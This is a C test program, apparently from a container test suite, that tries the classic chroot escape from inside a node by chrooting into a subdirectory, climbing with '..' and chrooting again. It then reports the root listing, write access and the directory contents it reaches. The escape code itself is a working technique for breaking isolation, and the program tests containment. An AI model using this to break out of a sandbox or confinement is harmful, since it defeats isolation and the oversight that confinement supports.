/* chroot_escape: the classic way out of a chroot, tried from inside a node
 * (test_ct, ct-4.2): chroot into a subdirectory while the working
 * directory stays outside it, climb with "..", chroot there.  Prints the
 * names in the root it reached ("ROOT name ..."), whether a file can be
 * made there ("WRITE errno"), and the names in each directory found
 * ("DIR name: ..."): what an escape reaches.  Static
 * (a node's root has no C library). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void
list(const char *tag, const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *e;

	printf("%s %s:", tag, dir);
	if (d == NULL) {
		printf(" (%s)\n", strerror(errno));
		return;
	}
	while ((e = readdir(d)) != NULL)
		if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
			printf(" %s", e->d_name);
	printf("\n");
	closedir(d);
}

int
main(void)
{
	DIR *d;
	struct dirent *e;
	int fd;

	if (chdir("/") < 0 || (mkdir("/tmp", 0755) < 0 && errno != EEXIST) ||
	    (mkdir("/tmp/jail", 0755) < 0 && errno != EEXIST) || chroot("/tmp/jail") < 0) {
		printf("SETUP %s\n", strerror(errno));
		return 1;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		printf("CHROOT %s\n", strerror(errno));
		return 1;
	}
	list("ROOT", "/");
	fd = open("/escaped", O_WRONLY | O_CREAT | O_EXCL, 0644);
	printf("WRITE %d\n", fd >= 0 ? 0 : errno);
	if (fd >= 0) {
		close(fd);
		unlink("/escaped");
	}
	if ((d = opendir("/")) != NULL) {
		while ((e = readdir(d)) != NULL) {
			char path[300];
			if (e->d_name[0] == '.')
				continue;
			snprintf(path, sizeof(path), "/%s", e->d_name);
			list("DIR", path);
		}
		closedir(d);
	}
	printf("DONE\n");
	return 0;
}
